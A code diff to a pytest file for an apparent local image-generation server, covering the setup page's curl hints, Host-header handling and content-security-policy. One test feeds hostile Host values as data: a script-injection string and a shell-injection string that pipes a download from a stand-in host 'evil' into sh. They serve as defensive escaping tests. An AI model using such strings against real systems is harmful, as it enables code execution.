@@ -58,7 +58,7 @@ def test_a_server_without_a_model_says_how_to_add_one(latentd_app: AppFactory) -
     assert f"latentd {__version__}" in page.text
     assert "There are none yet" in page.text
     assert str(latentd_app.data_dir / "models" / "Stable-diffusion") in page.text
-    assert "curl -X POST http://testserver/sdapi/v1/refresh-checkpoints" in page.text
+    assert "curl -X POST http://localhost/sdapi/v1/refresh-checkpoints" in page.text
 
 
 def test_a_server_with_models_names_them_and_the_next_command(latentd_app: AppFactory) -> None:
@@ -70,7 +70,7 @@ def test_a_server_with_models_names_them_and_the_next_command(latentd_app: AppFa
     assert f"{titles[0]} (selected)" in page.text
     assert titles[1] in page.text
     assert "refresh-checkpoints" not in page.text
-    assert "curl -s http://testserver/sdapi/v1/txt2img" in page.text
+    assert "curl -s http://localhost/sdapi/v1/txt2img" in page.text
     for address in (address for address in page.addresses() if address != "/readyz"):
         assert client.get(address).status_code == 200, address
 
@@ -101,7 +101,7 @@ def test_names_of_files_are_text(latentd_app: AppFactory, name: str) -> None:
 
 @pytest.mark.parametrize("host", ['x"><script>alert(1)</script>', "x';curl evil|sh;'", "a b"])
 def test_the_name_that_a_client_gives_the_server_is_text(latentd_app: AppFactory, host: str) -> None:
-    page = Elements(latentd_app().get("/", headers={"Host": host}).text)
+    page = Elements(latentd_app(flags=["--allowed-hosts", "*"]).get("/", headers={"Host": host}).text)
     assert "script" not in {tag for tag, _ in page.found}
     for line in page.text.splitlines():
         if line.startswith("curl"):
@@ -188,7 +188,7 @@ def test_pages_load_from_this_server_alone(latentd_app: AppFactory, prefix: str,
         # The server answers with the prefix and without.
         assert client.get(address).status_code in (200, 503), address
         assert client.get(address.removeprefix(prefix)).status_code in (200, 503), address
-    assert not re.search(r"https?:(?!//testserver)", reply.headers["content-security-policy"])
+    assert not re.search(r"https?:(?!//localhost)", reply.headers["content-security-policy"])
     assert "unsafe-eval" not in reply.headers["content-security-policy"]
 
 
